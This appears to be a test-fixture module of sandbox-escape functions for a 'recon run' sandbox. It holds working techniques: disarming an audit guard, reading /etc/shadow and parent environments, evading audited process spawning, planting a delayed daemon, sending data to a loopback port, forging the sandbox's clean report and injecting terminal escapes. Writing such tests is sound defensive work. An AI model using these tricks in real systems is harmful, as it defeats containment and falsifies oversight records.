"""Functions that try to get out of ``recon run``'s sandbox, one per escape class.

Each returns what it managed (or the error it met) instead of raising, the way
hostile code would hide a failure; the tests check the host, not the answer.
Most first disarm the in-process guard, so that only the OS sandbox is left.
"""

import gc
import json
import os
import socket
import stat
import sys

import _posixsubprocess


def disarm():
    """Clear the audit guard's tables and widen its scratch folder to everything."""
    guard = sys.modules["recon_runtime.guard"]
    guard._REFUSED.clear()
    guard._PATH_EVENTS.clear()
    guard._TWO_PATH_EVENTS.clear()
    for obj in gc.get_objects():
        if isinstance(obj, guard.Guard):
            obj.scratch = ""
    return "disarmed"


def _attempt(action, *args):
    try:
        return "ok: " + str(action(*args))[:2000]
    except BaseException as err:  # noqa: BLE001 - hostile code hides every failure
        return f"error: {type(err).__name__}: {err}"[:2000]


def _read(path):
    with open(path, "rb") as fh:
        return fh.read().decode("utf-8", "replace")


def read_file(path):
    """Reads any file (e.g. /etc/shadow, /proc/1/environ)."""
    disarm()
    return _attempt(_read, path)


def read_parent_environ():
    """Reads the environment of the process that started it."""
    disarm()
    return _attempt(_read, f"/proc/{os.getppid()}/environ")


def processes():
    """Every process this code can see, and what it is."""
    out = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            out[name] = _attempt(_read, f"/proc/{name}/cmdline").replace("\0", " ")
    return out


def _write_at(folder, name):
    fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    try:
        out = os.open(name, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o644, dir_fd=fd)
        os.write(out, b"pwned")
        os.close(out)
    finally:
        os.close(fd)
    return "written"


def write_via_dir_fd(folder, name):
    """Writes ``folder/name`` through a directory descriptor (the guard sees only ``name``)."""
    return _attempt(_write_at, folder, name)


def _write(path):
    with open(path, "w") as fh:
        fh.write("pwned")
    return "written"


def write_via_parent_cwd(name):
    """Writes into the working folder of its parent process through /proc."""
    return _attempt(_write, f"/proc/{os.getppid()}/cwd/{name}")


def write_after_disarming(path):
    """Clears the guard's tables, then writes where it likes."""
    disarm()
    return _attempt(_write, path)


def shell_touch(path):
    """Starts a shell that creates ``path``."""
    disarm()
    return _attempt(os.system, f"touch {path}")


def _spawn(argv, setsid=False):
    errpipe_read, errpipe_write = os.pipe()
    try:
        pid = _posixsubprocess.fork_exec(
            argv, [os.fsencode(argv[0])], True, (), None, None,
            -1, -1, -1, -1, -1, -1, errpipe_read, errpipe_write,
            False, setsid, -1, None, None, None, -1, None, False)
    finally:
        os.close(errpipe_write)
        os.close(errpipe_read)
    return pid


def fork_many(count, seconds):
    """Starts ``count`` sleeping processes without any audited call (``_posixsubprocess``)."""
    started = 0
    for _ in range(count):
        try:
            _spawn(["/usr/bin/sleep", str(seconds)])
        except OSError:
            break
        started += 1
    return started


def run_and_wait(seconds):
    """Runs ``sleep seconds`` to its end (so it can be seen from the host meanwhile)."""
    pid = _spawn(["/usr/bin/sleep", str(seconds)])
    return os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])


def daemon_writes_later(path, seconds):
    """A double-forked, setsid child that sleeps and then writes ``path`` (after the run)."""
    disarm()
    script = f"sleep {seconds}; echo late > {path}"
    return _attempt(_spawn, ["/usr/bin/sh", "-c", script], True)


def connect(port):
    """Connects to a port on the host's loopback."""
    disarm()

    def go():
        with socket.create_connection(("127.0.0.1", port), timeout=3) as sock:
            sock.sendall(b"exfiltrated")
        return "connected"

    return _attempt(go)


def identity():
    """Who the code is inside: uids, gids, capabilities."""
    status = _read("/proc/self/status")
    caps = {line.split(":")[0]: line.split(":")[1].strip() for line in status.splitlines()
            if line.startswith("Cap")}
    return {"uid": os.getuid(), "euid": os.geteuid(), "gid": os.getgid(), "caps": caps,
            "hostname": socket.gethostname()}


def _write_back(path):
    with open(path, "rb") as fh:
        current = fh.read()
    with open(path, "wb") as fh:
        fh.write(current)
    return "written back"


def write_back(path):
    """Rewrites a file with its own content (a host sysctl, say)."""
    disarm()
    return _attempt(_write_back, path)


def write_snapshot_file(path):
    """Overwrites a file of the snapshot it came from."""
    disarm()
    return _attempt(_write, path)


def _pipes_for_writing():
    fds = []
    for fd in range(3, 256):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISFIFO(mode) and os.get_blocking(fd) is not None:
            import fcntl

            if fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                fds.append(fd)
    return fds


def forge_report(path, target):
    """Does something refused, then writes a clean report on every pipe and leaves."""
    try:
        _write(path)
    except PermissionError:
        pass
    forged = {"calls": [{"target": target, "ok": True, "value": "all good"}], "sandbox": []}
    for fd in _pipes_for_writing():
        os.write(fd, json.dumps(forged).encode())
        os.close(fd)
    os._exit(0)


def forge_malformed(target):
    """Writes a report that breaks the schema (a call that is ``ok`` as a string)."""
    forged = {"calls": [{"target": target, "ok": "yes", "value": "all good"}]}
    for fd in _pipes_for_writing():
        os.write(fd, json.dumps(forged).encode())
        os.close(fd)
    os._exit(0)


def terminal_escapes():
    """Raises with a message that would clear the screen and retitle the terminal."""
    raise ValueError("\x1b[2J\x1b]0;pwned\x07 all good")
